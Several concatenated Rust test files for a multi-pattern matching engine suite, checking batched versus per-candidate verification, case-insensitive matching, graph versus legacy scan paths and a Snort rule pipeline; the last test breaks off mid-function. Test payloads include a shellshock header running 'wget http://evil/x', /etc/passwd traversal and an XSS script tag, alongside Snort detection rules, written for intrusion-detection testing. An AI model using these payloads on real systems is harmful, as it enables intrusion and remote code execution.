//! Differential property suite for the batched, prefetch-pipelined
//! verification path (PR 5): **batched ≡ per-candidate**, on every backend
//! this run can dispatch to.
//!
//! For random folded and unfolded pattern sets, and for candidate arrays
//! produced by real filtering rounds as well as hand-clustered ones (around
//! the vector-block boundaries `W` / `2W` and hard against the end of the
//! buffer, where the batched path's gather detour and the bounds-skip
//! semantics engage), the suite asserts that the batched path reports
//!
//! * the same **match set** (element-for-element after normalization),
//! * the same **order after sort** (normalized vectors compared directly),
//! * the same **comparison counts** (the instrumentation the cache model
//!   and the figure-5 analysis consume)
//!
//! as the historical per-candidate path it replaced. `MPM_FORCE_BACKEND`
//! narrows `available_backends()`, which is how the CI matrix pins the
//! suite to the scalar, AVX2 and AVX-512 code paths in turn (in `--release`,
//! so the unsafe masked-compare and prefetch paths run with optimizations).

use proptest::prelude::*;
use vpatch_suite::dfc::DfcTables;
use vpatch_suite::patterns::matcher::normalize_matches;
use vpatch_suite::prelude::*;
use vpatch_suite::simd::{Avx2Backend, Avx512Backend, ScalarBackend};
use vpatch_suite::verify::Verifier;
use vpatch_suite::vpatch::Scratch;

/// Pattern bytes over a collision-happy alphabet (shared prefixes, both
/// cases, a non-ASCII byte that must never fold).
fn bytes_strategy(max_len: usize) -> impl Strategy<Value = Vec<u8>> {
    proptest::collection::vec(
        prop_oneof![
            Just(b'a'),
            Just(b'A'),
            Just(b't'),
            Just(b'T'),
            Just(b'g'),
            Just(b'e'),
            Just(b'0'),
            Just(0xC1u8),
            any::<u8>()
        ],
        1..max_len,
    )
}

/// A random mixed set: each pattern independently `nocase` (folded tables)
/// or byte-exact; sets with no `nocase` pattern exercise the unfolded
/// kernels.
fn mixed_set_strategy() -> impl Strategy<Value = PatternSet> {
    proptest::collection::vec((bytes_strategy(12), any::<bool>()), 1..12).prop_map(|ps| {
        PatternSet::new(
            ps.into_iter()
                .map(|(bytes, nocase)| Pattern::literal(bytes).with_nocase(nocase))
                .collect(),
        )
    })
}

fn haystack_strategy(max_len: usize) -> impl Strategy<Value = Vec<u8>> {
    bytes_strategy(max_len)
}

/// Runs one engine's filtering round and returns `(batched, per-candidate)`
/// results as `(normalized matches, comparisons)` pairs.
fn vpatch_both_paths<B: VectorBackend<W>, const W: usize>(
    set: &PatternSet,
    hay: &[u8],
) -> ((Vec<MatchEvent>, u64), (Vec<MatchEvent>, u64)) {
    let engine = VPatch::<B, W>::build(set);
    let mut scratch = Scratch::new();
    engine.filter_round(hay, &mut scratch);
    let mut batched = Vec::new();
    let batched_cmp = engine.verify_round(hay, &scratch, &mut batched);
    normalize_matches(&mut batched);
    let mut per_candidate = Vec::new();
    let per_candidate_cmp = engine.verify_round_per_candidate(hay, &scratch, &mut per_candidate);
    normalize_matches(&mut per_candidate);
    ((batched, batched_cmp), (per_candidate, per_candidate_cmp))
}

/// Asserts batched ≡ per-candidate for V-PATCH on every dispatchable
/// backend, and for S-PATCH (scalar-batched) against its own reference.
fn assert_engine_paths_agree(set: &PatternSet, hay: &[u8]) {
    for kind in available_backends() {
        let (batched, reference) = match kind {
            BackendKind::Scalar => vpatch_both_paths::<ScalarBackend, 8>(set, hay),
            BackendKind::Avx2 => vpatch_both_paths::<Avx2Backend, 8>(set, hay),
            BackendKind::Avx512 => vpatch_both_paths::<Avx512Backend, 16>(set, hay),
        };
        assert_eq!(batched.0, reference.0, "V-PATCH/{kind} match set");
        assert_eq!(batched.1, reference.1, "V-PATCH/{kind} comparison count");
        // The verification must also be *correct*, not just self-consistent.
        assert_eq!(
            batched.0,
            vpatch_suite::patterns::naive::naive_find_all(set, hay),
            "V-PATCH/{kind} vs naive"
        );
    }
    let engine = SPatch::build(set);
    let mut scratch = Scratch::new();
    engine.filter_round(hay, &mut scratch);
    let mut batched = Vec::new();
    let batched_cmp = engine.verify_round(hay, &scratch, &mut batched);
    let mut reference = Vec::new();
    let reference_cmp = engine.verify_round_per_candidate(hay, &scratch, &mut reference);
    normalize_matches(&mut batched);
    normalize_matches(&mut reference);
    assert_eq!(batched, reference, "S-PATCH match set");
    assert_eq!(batched_cmp, reference_cmp, "S-PATCH comparison count");
}

/// Asserts `Verifier` batched ≡ per-candidate for an explicit candidate
/// array on every dispatchable backend.
fn assert_verifier_paths_agree(set: &PatternSet, hay: &[u8], positions: &[u32]) {
    let v = Verifier::build(set);
    let mut expected = Vec::new();
    let mut expected_cmp = 0u64;
    for &p in positions {
        expected_cmp += v.verify_short(hay, p as usize, &mut expected) as u64;
        expected_cmp += v.verify_long(hay, p as usize, &mut expected) as u64;
    }
    normalize_matches(&mut expected);
    for kind in available_backends() {
        let mut got = Vec::new();
        let got_cmp = match kind {
            BackendKind::Scalar => {
                v.verify_short_batch::<ScalarBackend, 8>(hay, positions, &mut got)
                    + v.verify_long_batch::<ScalarBackend, 8>(hay, positions, &mut got)
            }
            BackendKind::Avx2 => {
                v.verify_short_batch::<Avx2Backend, 8>(hay, positions, &mut got)
                    + v.verify_long_batch::<Avx2Backend, 8>(hay, positions, &mut got)
            }
            BackendKind::Avx512 => {
                v.verify_short_batch::<Avx512Backend, 16>(hay, positions, &mut got)
                    + v.verify_long_batch::<Avx512Backend, 16>(hay, positions, &mut got)
            }
        };
        normalize_matches(&mut got);
        assert_eq!(got, expected, "Verifier/{kind} match set");
        assert_eq!(got_cmp, expected_cmp, "Verifier/{kind} comparison count");
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(48))]

    /// Batched ≡ per-candidate for real filtering-round candidate arrays on
    /// random folded/unfolded sets and random traffic.
    #[test]
    fn engine_verify_rounds_agree_on_random_sets(
        set in mixed_set_strategy(),
        hay in haystack_strategy(400),
    ) {
        assert_engine_paths_agree(&set, &hay);
    }

    /// Batched ≡ per-candidate for arbitrary candidate position arrays —
    /// including duplicates and positions the filters would never emit.
    #[test]
    fn verifier_batch_agrees_on_arbitrary_position_arrays(
        set in mixed_set_strategy(),
        hay in haystack_strategy(300),
        raw in proptest::collection::vec(any::<u32>(), 0..200),
    ) {
        let mut positions: Vec<u32> = raw
            .into_iter()
            .map(|p| p % (hay.len().max(1) as u32))
            .collect();
        positions.sort_unstable();
        assert_verifier_paths_agree(&set, &hay, &positions);
    }
}

/// Candidates clustered at the vector-block boundaries (`W`, `2W` for both
/// widths) and hard against the end of the buffer: the seams where the
/// batched path switches between its SIMD gather, its scalar detour and the
/// bounds-skip semantics.
#[test]
fn clustered_candidates_at_block_boundaries_and_buffer_end() {
    let set = PatternSet::new(vec![
        Pattern::literal(*b"attack"),
        Pattern::literal(*b"attach"),
        Pattern::literal(*b"atta"),
        Pattern::literal_nocase(*b"GeT /x"),
        Pattern::literal(*b"ab"),
        Pattern::literal_nocase(*b"Q"),
    ]);
    let exact_only = PatternSet::from_literals(&["attack", "attach", "atta", "ab", "q"]);
    let mut hay = b"GET /x attack attach ab q ".repeat(12);
    hay.truncate(270);
    hay.extend_from_slice(b"attack"); // a match flush against the end
    let len = hay.len() as u32;
    let mut positions: Vec<u32> = Vec::new();
    for seam in [8u32, 16, 32, 128, 256] {
        for delta in -2i64..=2 {
            let p = seam as i64 + delta;
            if (0..len as i64).contains(&p) {
                positions.push(p as u32);
            }
        }
    }
    // End-of-buffer cluster: every position in the last 8 bytes, duplicated,
    // so entries are skipped by the bounds check on one side of the seam and
    // genuinely compared on the other.
    for p in len.saturating_sub(8)..len {
        positions.push(p);
        positions.push(p);
    }
    positions.sort_unstable();
    for set in [&set, &exact_only] {
        assert_verifier_paths_agree(set, &hay, &positions);
        assert_engine_paths_agree(set, &hay);
    }
}

/// DFC's batched drain (`classify_and_verify_batch`) ≡ the historical
/// per-candidate classification, including the progressive-filter gate for
/// the long class, on every dispatchable backend.
#[test]
fn dfc_batched_drain_equals_per_candidate_classification() {
    let sets = [
        PatternSet::from_literals(&["a", "bc", "def", "ghij", "attack", "attach", "klmnopqr"]),
        PatternSet::new(vec![
            Pattern::literal_nocase(*b"CmD.exe"),
            Pattern::literal(*b"cmd.exe"),
            Pattern::literal_nocase(*b"aB"),
            Pattern::literal_nocase(*b"x"),
            Pattern::literal(*b"ghij"),
        ]),
    ];
    for set in &sets {
        let tables = DfcTables::build(set);
        let hay = b"a bc def ghij attack attach klmnopqr CMD.EXE cmd.exe AB x gh".repeat(6);
        let positions: Vec<u32> = (0..hay.len() as u32).collect();
        let mut expected = Vec::new();
        let mut expected_cmp = 0u64;
        for &p in &positions {
            expected_cmp += tables.classify_and_verify(&hay, p as usize, &mut expected) as u64;
        }
        normalize_matches(&mut expected);
        let mut long_scratch = Vec::new();
        for kind in available_backends() {
            let mut got = Vec::new();
            let got_cmp = match kind {
                BackendKind::Scalar => tables.classify_and_verify_batch::<ScalarBackend, 8>(
                    &hay,
                    &positions,
                    &mut long_scratch,
                    &mut got,
                ),
                BackendKind::Avx2 => tables.classify_and_verify_batch::<Avx2Backend, 8>(
                    &hay,
                    &positions,
                    &mut long_scratch,
                    &mut got,
                ),
                BackendKind::Avx512 => tables.classify_and_verify_batch::<Avx512Backend, 16>(
                    &hay,
                    &positions,
                    &mut long_scratch,
                    &mut got,
                ),
            };
            normalize_matches(&mut got);
            assert_eq!(got, expected, "DFC/{kind} match set");
            assert_eq!(got_cmp, expected_cmp, "DFC/{kind} comparison count");
        }
    }
}

/// The bounds-skip comparison-count bugfix, observed through the engines'
/// public stats: a candidate whose bucket entries never fit in the buffer
/// contributes zero comparisons on both paths.
#[test]
fn comparison_counts_are_not_inflated_near_buffer_ends() {
    let set = PatternSet::from_literals(&["attack", "attach"]);
    let v = Verifier::build(&set);
    // The last candidate's prefix fits but no full pattern does.
    let hay = b"zz atta";
    let positions = [3u32];
    let mut out = Vec::new();
    let mut per_candidate = 0u64;
    for &p in &positions {
        per_candidate += v.verify_long(hay, p as usize, &mut out) as u64;
    }
    assert_eq!(per_candidate, 0, "skipped entries must not be counted");
    let batched = v.verify_long_batch::<ScalarBackend, 8>(hay, &positions, &mut out);
    assert_eq!(batched, 0);
    assert!(out.is_empty());
}
