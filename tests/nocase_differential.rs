//! Cross-engine differential property tests for the case-insensitive
//! (`nocase`) matching semantics.
//!
//! Random pattern sets mixing `nocase` and case-sensitive patterns are run
//! over randomly case-mutated traffic through **every engine in the
//! workspace** — Aho-Corasick (NFA and dense DFA), Wu-Manber, DFC,
//! Vector-DFC, S-PATCH and V-PATCH on every backend this run can dispatch
//! to — and compared against the naive case-aware reference, both one-shot
//! and streamed under random chunkings. `MPM_FORCE_BACKEND` narrows the
//! backend list, which is how the CI matrix pins these tests to the scalar,
//! AVX2 and AVX-512 code paths in turn.
//!
//! The contract under test (filter-folded / verify-exact): a `nocase`
//! pattern matches every ASCII case variant of itself, a case-sensitive
//! pattern matches byte-exactly only, and mixing the two in one set changes
//! neither.

use std::sync::Arc;
use vpatch_suite::patterns::matcher::normalize_matches;
use vpatch_suite::patterns::naive::naive_find_all;
use vpatch_suite::prelude::*;
use vpatch_suite::simd::{Avx2Backend, Avx512Backend, ScalarBackend};

use proptest::prelude::*;

/// Pattern bytes over a deliberately collision-happy alphabet: both cases of
/// a few letters (so case-variants of patterns occur in the haystack), a
/// digit, a non-ASCII byte (must never fold) and arbitrary bytes.
fn bytes_strategy(max_len: usize) -> impl Strategy<Value = Vec<u8>> {
    proptest::collection::vec(
        prop_oneof![
            Just(b'a'),
            Just(b'A'),
            Just(b'b'),
            Just(b'B'),
            Just(b'g'),
            Just(b'G'),
            Just(b'e'),
            Just(b'T'),
            Just(b'0'),
            Just(0xC1u8),
            any::<u8>()
        ],
        1..max_len,
    )
}

/// A random mixed set: each pattern independently `nocase` or byte-exact.
fn mixed_set_strategy() -> impl Strategy<Value = PatternSet> {
    proptest::collection::vec((bytes_strategy(9), any::<bool>()), 1..10).prop_map(|ps| {
        PatternSet::new(
            ps.into_iter()
                .map(|(bytes, nocase)| Pattern::literal(bytes).with_nocase(nocase))
                .collect(),
        )
    })
}

/// A haystack plus per-byte case mutations: `flips[i % flips.len()]` decides
/// whether byte `i` gets its ASCII case toggled, so embedded pattern bytes
/// appear in arbitrary case mixes.
fn mutated_haystack_strategy(max_len: usize) -> impl Strategy<Value = Vec<u8>> {
    (
        bytes_strategy(max_len),
        proptest::collection::vec(any::<bool>(), 1..16),
    )
        .prop_map(|(mut hay, flips)| {
            for (i, b) in hay.iter_mut().enumerate() {
                if flips[i % flips.len()] && b.is_ascii_alphabetic() {
                    *b ^= 0x20;
                }
            }
            hay
        })
}

fn chunk_plan_strategy() -> impl Strategy<Value = Vec<usize>> {
    proptest::collection::vec(1usize..24, 1..12)
}

/// Every engine in the workspace, on every backend this run can dispatch to
/// (`MPM_FORCE_BACKEND` pins the list, so the CI matrix exercises each
/// forced backend in turn).
fn all_engines(rules: &PatternSet) -> Vec<SharedMatcher> {
    let mut engines: Vec<SharedMatcher> = vec![
        Arc::from(NfaMatcher::build(rules)),
        Arc::from(DfaMatcher::build(rules)),
        Arc::from(WuManber::build(rules)),
        Arc::from(Dfc::build(rules)),
        Arc::from(VectorDfc::<ScalarBackend, 8>::build(rules)),
        Arc::from(SPatch::build(rules)),
        Arc::from(VPatch::<ScalarBackend, 8>::build(rules)),
        Arc::from(VPatch::<ScalarBackend, 16>::build(rules)),
    ];
    for kind in available_backends() {
        match kind {
            BackendKind::Scalar => {}
            BackendKind::Avx2 => {
                engines.push(Arc::from(VPatch::<Avx2Backend, 8>::build(rules)));
                engines.push(Arc::from(VectorDfc::<Avx2Backend, 8>::build(rules)));
            }
            BackendKind::Avx512 => {
                engines.push(Arc::from(VPatch::<Avx512Backend, 16>::build(rules)));
                engines.push(Arc::from(VectorDfc::<Avx512Backend, 16>::build(rules)));
            }
        }
    }
    engines
}

/// Streams `hay` through a [`StreamScanner`] following `plan` and returns
/// the normalized match set.
fn streamed_matches(
    engine: SharedMatcher,
    set: &PatternSet,
    hay: &[u8],
    plan: &[usize],
) -> Vec<MatchEvent> {
    let mut scanner = StreamScanner::new(engine, set);
    let mut got = Vec::new();
    let mut pos = 0;
    let mut step = 0;
    while pos < hay.len() {
        let take = plan[step % plan.len()].min(hay.len() - pos);
        scanner.push(&hay[pos..pos + take], &mut got);
        pos += take;
        step += 1;
    }
    normalize_matches(&mut got);
    got
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(32))]

    #[test]
    fn every_engine_equals_the_case_aware_reference_one_shot(
        set in mixed_set_strategy(),
        hay in mutated_haystack_strategy(300),
    ) {
        let expected = naive_find_all(&set, &hay);
        for engine in all_engines(&set) {
            prop_assert_eq!(
                &engine.find_all(&hay), &expected,
                "{} diverged from the case-aware reference", engine.name()
            );
            prop_assert_eq!(
                engine.count(&hay), expected.len() as u64,
                "{} count() diverged", engine.name()
            );
        }
    }

    #[test]
    fn every_engine_equals_the_reference_streamed(
        set in mixed_set_strategy(),
        hay in mutated_haystack_strategy(250),
        plan in chunk_plan_strategy(),
    ) {
        let expected = naive_find_all(&set, &hay);
        for engine in all_engines(&set) {
            let name = engine.name();
            let got = streamed_matches(engine, &set, &hay, &plan);
            prop_assert_eq!(
                &got, &expected,
                "{} diverged from one-shot under chunking {:?}", name, &plan
            );
        }
    }
}

/// The motivating false negative from the issue: a `nocase` rule for
/// `GET /etc/passwd` must catch `GET /ETC/PASSWD` in every engine, while a
/// case-sensitive twin must not.
#[test]
fn upper_cased_attack_traffic_no_longer_sails_past_nocase_rules() {
    let rules = PatternSet::new(vec![
        Pattern::literal_nocase(*b"GET /etc/passwd"),
        Pattern::literal(*b"GET /etc/passwd"),
    ]);
    let attack = b"xx GET /ETC/PASSWD HTTP/1.1";
    let benign = b"xx GET /etc/passwd HTTP/1.1";
    for engine in all_engines(&rules) {
        let hits = engine.find_all(attack);
        assert_eq!(
            hits,
            vec![MatchEvent::new(3, PatternId(0))],
            "{}: the nocase rule (and only it) must fire on case-varied traffic",
            engine.name()
        );
        let both = engine.find_all(benign);
        assert_eq!(both.len(), 2, "{}", engine.name());
    }
}

/// Case-sensitive-only sets must keep byte-exact semantics bit-for-bit:
/// the folded machinery may not even engage.
#[test]
fn case_sensitive_only_sets_are_untouched_by_the_nocase_machinery() {
    let rules = PatternSet::from_literals(&["GeT", "attack", "AB"]);
    assert!(!rules.has_nocase());
    let hay = b"GET get GeT ATTACK attack ab AB aB";
    let expected = naive_find_all(&rules, hay);
    for engine in all_engines(&rules) {
        assert_eq!(engine.find_all(hay), expected, "{}", engine.name());
    }
}
