//! PR 9 differential suite: every engine's **graph-assembled** scan path
//! must be equivalent to its retained legacy monolithic pass — same match
//! set, same candidate statistics — for every forced backend, one-shot and
//! streamed, under random chunkings, with the overlapped schedule on and
//! off. Additionally, at a fixed chunk size the overlapped and sequential
//! schedules must produce **byte-identical** output (same order), which is
//! the invariant that makes `overlap` a pure performance knob.
//!
//! CI runs this suite once per forced backend (`MPM_FORCE_BACKEND=scalar|
//! avx2|avx512`); within one run it additionally iterates every backend
//! available on the host, so the full matrix is covered even locally.

use std::sync::Arc;

use mpm_graph::GraphConfig;
use mpm_patterns::{MatchEvent, Matcher, Pattern, PatternSet};
use mpm_simd::BackendKind;
use mpm_stream::{SharedMatcher, StreamScanner};

/// Chunk sizes exercised for every engine: aligned, unaligned (normalized
/// up by the graph), tiny, and larger-than-input.
const CHUNKS: &[usize] = &[32, 64, 96, 131, 256, 1000, 4096, 1 << 20];

fn sorted(mut v: Vec<MatchEvent>) -> Vec<MatchEvent> {
    v.sort_unstable_by_key(|m| (m.start, m.pattern.0));
    v
}

/// A verify-heavy adversarial input: dense near-matches keep the verify
/// stage busy (the workload the overlapped schedule targets), plus clean
/// filler so the filter stage also gets exercised.
fn adversarial_haystack(len: usize) -> Vec<u8> {
    let phrase = b"GET /etc/passwd attack attac attach cmd.exe cmd.ex aab ab GET GE ";
    phrase.iter().cycle().take(len).copied().collect()
}

fn rules() -> PatternSet {
    PatternSet::from_literals(&[
        "a",
        "ab",
        "GET",
        "abcd",
        "attack",
        "attach",
        "cmd.exe",
        "/etc/passwd",
    ])
}

fn rules_nocase() -> PatternSet {
    PatternSet::new(vec![
        Pattern::literal_nocase(*b"AtTaCk"),
        Pattern::literal(*b"GET"),
        Pattern::literal_nocase(*b"x"),
        Pattern::literal_nocase(*b"Cmd.Exe"),
        Pattern::literal(*b"ab"),
    ])
}

/// Deterministic xorshift so the "random" chunkings are reproducible.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
}

/// Splits `hay` into random packets and runs them through a
/// [`StreamScanner`] over `engine` (whose per-chunk scans all go through
/// the graph path), comparing against the one-shot legacy match set.
fn check_streamed(engine: SharedMatcher, set: &PatternSet, hay: &[u8], legacy: &[MatchEvent]) {
    let mut rng = Rng(0x9e3779b97f4a7c15);
    for _ in 0..3 {
        let mut scanner = StreamScanner::new(engine.clone(), set);
        let mut got = Vec::new();
        let mut offset = 0;
        while offset < hay.len() {
            let step = 1 + (rng.next() % 1500) as usize;
            let end = (offset + step).min(hay.len());
            scanner.push(&hay[offset..end], &mut got);
            offset = end;
        }
        assert_eq!(sorted(got), legacy, "streamed scan diverged from legacy");
    }
}

/// The core differential check, generic over a concrete engine type.
///
/// `legacy(e, hay)` runs the retained monolithic pass; `configure` applies
/// a [`GraphConfig`] to the engine's graph. The engine's [`Matcher`] entry
/// points are the graph path under test.
fn check_engine<E, L, C>(
    name: &str,
    build: impl Fn() -> E,
    legacy: L,
    configure: C,
    set: &PatternSet,
    candidates_chunk_invariant: bool,
) where
    E: Matcher + Send + Sync + 'static,
    L: Fn(&E, &[u8]) -> Vec<MatchEvent>,
    C: Fn(&mut E, GraphConfig),
{
    let hay = adversarial_haystack(48 * 1024 + 37);
    let oracle_engine = build();
    let oracle = sorted(legacy(&oracle_engine, &hay));
    assert!(
        !oracle.is_empty(),
        "{name}: oracle found nothing — bad setup"
    );

    let mut candidates_seen: Option<u64> = None;
    for &chunk in CHUNKS {
        // The two schedules must agree with the oracle *and* with each
        // other byte-for-byte (same event order) at the same chunk size.
        let mut per_overlap: Vec<Vec<MatchEvent>> = Vec::new();
        let mut per_overlap_candidates: Vec<u64> = Vec::new();
        for overlap in [false, true] {
            let mut e = build();
            configure(&mut e, GraphConfig { chunk, overlap }.normalize());
            let got = e.find_all(&hay);
            assert_eq!(
                sorted(got.clone()),
                oracle,
                "{name}: graph(chunk={chunk}, overlap={overlap}) != legacy"
            );
            let stats = e.scan_with_stats(&hay);
            assert_eq!(
                stats.matches as usize,
                oracle.len(),
                "{name}: stats.matches"
            );
            assert_eq!(stats.bytes_scanned as usize, hay.len());
            per_overlap.push(got);
            per_overlap_candidates.push(stats.candidates);
        }
        assert_eq!(
            per_overlap[0], per_overlap[1],
            "{name}: overlap on/off output not byte-identical at chunk={chunk}"
        );
        assert_eq!(
            per_overlap_candidates[0], per_overlap_candidates[1],
            "{name}: overlap on/off candidate counters diverge at chunk={chunk}"
        );
        if candidates_chunk_invariant {
            let c = per_overlap_candidates[0];
            match candidates_seen {
                None => candidates_seen = Some(c),
                Some(prev) => assert_eq!(
                    prev, c,
                    "{name}: candidate counter not chunk-invariant at chunk={chunk}"
                ),
            }
        }
    }

    // Streamed: random packet splits over the default graph config.
    let engine: SharedMatcher = Arc::new(build());
    check_streamed(engine, set, &hay, &oracle);
}

/// Runs the whole engine matrix for one vector backend width.
fn run_matrix_for_backend(kind: BackendKind) {
    for set in [rules(), rules_nocase()] {
        // S-PATCH (scalar two-round engine; backend-independent, checked
        // once per backend anyway — it is cheap and keeps the loop simple).
        check_engine(
            "S-PATCH",
            || mpm_vpatch::SPatch::build(&set),
            |e, h| {
                let mut out = Vec::new();
                e.find_into_legacy(h, &mut out);
                out
            },
            |e, cfg| e.set_graph_config(cfg),
            &set,
            true,
        );

        // DFC (scalar baseline).
        check_engine(
            "DFC",
            || mpm_dfc::Dfc::build(&set),
            |e, h| {
                let mut out = Vec::new();
                e.find_into_legacy(h, &mut out);
                out
            },
            |e, cfg| e.set_graph_config(cfg),
            &set,
            true,
        );

        // Wu-Manber: candidate counts are legitimately chunk-dependent
        // (the shift walk restarts at chunk boundaries), so only the
        // overlap-invariance of the counters is asserted.
        check_engine(
            "Wu-Manber",
            || mpm_wu_manber::WuManber::build(&set),
            |e, h| {
                let mut out = Vec::new();
                e.find_into_legacy(h, &mut out);
                out
            },
            |e, cfg| e.set_graph_config(cfg),
            &set,
            false,
        );

        // V-PATCH and Vector-DFC at the backend's concrete type.
        macro_rules! vector_engines {
            ($backend:ty, $w:expr) => {{
                check_engine(
                    "V-PATCH",
                    || mpm_vpatch::VPatch::<$backend, $w>::build(&set),
                    |e, h| {
                        let mut out = Vec::new();
                        e.find_into_legacy(h, &mut out);
                        out
                    },
                    |e, cfg| e.set_graph_config(cfg),
                    &set,
                    true,
                );
                check_engine(
                    "Vector-DFC",
                    || mpm_dfc::VectorDfc::<$backend, $w>::build(&set),
                    |e, h| {
                        let mut out = Vec::new();
                        e.find_into_legacy(h, &mut out);
                        out
                    },
                    |e, cfg| e.set_graph_config(cfg),
                    &set,
                    true,
                );
            }};
        }
        match kind {
            BackendKind::Scalar => vector_engines!(mpm_simd::ScalarBackend, 8),
            BackendKind::Avx2 => vector_engines!(mpm_simd::Avx2Backend, 8),
            BackendKind::Avx512 => vector_engines!(mpm_simd::Avx512Backend, 16),
        }
    }
}

#[test]
fn scan_graph_equals_legacy_scalar_backend() {
    run_matrix_for_backend(BackendKind::Scalar);
}

#[test]
fn scan_graph_equals_legacy_simd_backends() {
    for kind in mpm_simd::available_backends() {
        if kind != BackendKind::Scalar {
            run_matrix_for_backend(kind);
        }
    }
}

/// The scalar-backend V-PATCH at 16 lanes exercises the second unroll
/// width without SIMD hardware.
#[test]
fn scan_graph_equals_legacy_wide_scalar_vpatch() {
    let set = rules();
    let hay = adversarial_haystack(16 * 1024 + 5);
    let e = mpm_vpatch::VPatchScalar16::build(&set);
    let mut legacy = Vec::new();
    e.find_into_legacy(&hay, &mut legacy);
    let legacy = sorted(legacy);
    for &chunk in &[96usize, 1 << 16] {
        for overlap in [false, true] {
            let mut g = mpm_vpatch::VPatchScalar16::build(&set);
            g.set_graph_config(GraphConfig { chunk, overlap }.normalize());
            assert_eq!(sorted(g.find_all(&hay)), legacy);
        }
    }
}
