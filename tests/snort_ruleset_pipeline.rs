//! Integration test: from Snort rule text all the way to alerts, using the
//! rule parser instead of the synthetic generators — both the flat pattern
//! view (`parse_rules`) and the multi-content rule view (`parse_ruleset`
//! with positional constraints, confirmed end-to-end through the sharded
//! streaming surface).

use vpatch_suite::patterns::rule::naive_rule_find_all;
use vpatch_suite::patterns::snort::{parse_rules, parse_ruleset, ParseOptions};
use vpatch_suite::prelude::*;

const RULES: &str = r#"
# A miniature web ruleset in Snort syntax.
alert tcp $EXTERNAL_NET any -> $HOME_NET $HTTP_PORTS (msg:"ETC PASSWD access"; content:"/etc/passwd"; sid:1000001;)
alert tcp $EXTERNAL_NET any -> $HOME_NET $HTTP_PORTS (msg:"shellshock"; content:"() { :;};"; sid:1000002;)
alert tcp $EXTERNAL_NET any -> $HOME_NET $HTTP_PORTS (msg:"XSS"; content:"<script>"; nocase; sid:1000003;)
alert tcp $EXTERNAL_NET any -> $HOME_NET $HTTP_PORTS (msg:"cmd exe"; content:"cmd.exe"; sid:1000004;)
alert tcp $EXTERNAL_NET any -> $HOME_NET 445 (msg:"binary blob"; content:"|de ad be ef|"; sid:1000005;)
alert tcp $HOME_NET any -> $EXTERNAL_NET 25 (msg:"mail probe"; content:"VRFY root"; sid:1000006;)
"#;

#[test]
fn parsed_ruleset_drives_all_engines_identically() {
    let rules = parse_rules(RULES, ParseOptions::default()).expect("rules parse");
    assert_eq!(rules.len(), 6);

    // The HTTP selection keeps the web rules and drops the SMB/SMTP ones.
    let http = rules.select_group(ProtocolGroup::Http);
    assert_eq!(http.len(), 4);

    let mut payload = Vec::new();
    payload.extend_from_slice(b"GET /index.php?q=<script>alert(1)</script> HTTP/1.1\r\n");
    payload.extend_from_slice(b"User-Agent: () { :;}; wget http://evil/x -O /tmp/cmd.exe\r\n\r\n");
    payload.extend_from_slice(&[0xde, 0xad, 0xbe, 0xef]);
    payload.extend_from_slice(b" ... /etc/passwd ... VRFY root\r\n");

    let reference = NaiveMatcher::new(&rules).find_all(&payload);
    assert_eq!(reference.len(), 6, "every rule should fire exactly once");

    let engines: Vec<Box<dyn Matcher + Send + Sync>> = vec![
        Box::new(DfaMatcher::build(&rules)),
        Box::new(Dfc::build(&rules)),
        Box::new(SPatch::build(&rules)),
        build_auto(&rules),
    ];
    for engine in engines {
        assert_eq!(engine.find_all(&payload), reference, "{}", engine.name());
    }

    // The HTTP-only selection must not fire the SMB/SMTP signatures.
    let http_engine = build_auto(&http);
    let http_alerts = http_engine.find_all(&payload);
    assert_eq!(http_alerts.len(), 4);
}

#[test]
fn nocase_rules_fire_on_case_varied_traffic_end_to_end() {
    let rules = parse_rules(RULES, ParseOptions::default()).expect("rules parse");
    assert!(rules.has_nocase(), "the XSS rule carries nocase;");

    // Case-varied attack: the nocase <script> rule must fire on <ScRiPt>,
    // while the case-sensitive cmd.exe rule must NOT fire on CMD.EXE.
    let payload = b"GET /?q=<ScRiPt>alert(1)</script> CMD.EXE cmd.exe HTTP/1.1";
    let reference = NaiveMatcher::new(&rules).find_all(payload);
    let fired: Vec<&str> = reference
        .iter()
        .map(|m| match m.pattern.0 {
            2 => "<script>",
            3 => "cmd.exe",
            _ => "other",
        })
        .collect();
    assert_eq!(fired, vec!["<script>", "cmd.exe"]);

    for engine in [
        Box::new(DfaMatcher::build(&rules)) as Box<dyn Matcher + Send + Sync>,
        Box::new(WuManber::build(&rules)),
        Box::new(Dfc::build(&rules)),
        Box::new(SPatch::build(&rules)),
        build_auto(&rules),
    ] {
        assert_eq!(engine.find_all(payload), reference, "{}", engine.name());
    }

    // Same semantics through the sharded streaming surface, with the match
    // cut across packets and the flow table capped.
    let engine: SharedMatcher = std::sync::Arc::from(build_auto(&rules));
    let mut sharded = ScannerBuilder::new()
        .engine(engine, &rules)
        .workers(2)
        .max_flows(1024)
        .build_barrier()
        .expect("valid build");
    let result = sharded.scan_batch(vec![
        Packet::new(7, b"GET /?q=<ScR".to_vec()),
        Packet::new(7, b"iPt>alert(1)".to_vec()),
    ]);
    assert_eq!(result.matches.len(), 1);
    assert_eq!(result.matches[0].event.start, 8);
}

const MULTI_CONTENT_RULES: &str = r#"
# Multi-content rules with positional constraints.
alert tcp $EXTERNAL_NET any -> $HOME_NET $HTTP_PORTS (msg:"traversal"; content:"GET "; content:"/etc/passwd"; distance:0; sid:2000001;)
alert tcp $EXTERNAL_NET any -> $HOME_NET $HTTP_PORTS (msg:"shellshock UA"; content:"User-Agent:"; content:"() {"; distance:0; within:40; sid:2000002;)
alert tcp $EXTERNAL_NET any -> $HOME_NET $HTTP_PORTS (msg:"early POST"; content:"POST"; offset:0; depth:4; content:"upload"; nocase; sid:2000003;)
alert tcp $EXTERNAL_NET any -> $HOME_NET $HTTP_PORTS (msg:"single"; content:"cmd.exe"; sid:2000004;)
"#;

#[test]
fn multi_content_rules_confirm_end_to_end() {
    let set = parse_ruleset(MULTI_CONTENT_RULES, ParseOptions::default()).expect("rules parse");
    assert_eq!(set.len(), 4);
    assert_eq!(set.get(RuleId(0)).sid(), Some(2_000_001));

    let mut payload = Vec::new();
    payload.extend_from_slice(b"GET /etc/passwd HTTP/1.1\r\n");
    payload.extend_from_slice(b"User-Agent: () { :;}; wget evil\r\n\r\n");
    payload.extend_from_slice(b"cmd.exe");
    // Rule 2 must NOT fire: "POST" absent at offset 0. Rules 0, 1, 3 fire.
    let expected = naive_rule_find_all(&set, &payload);
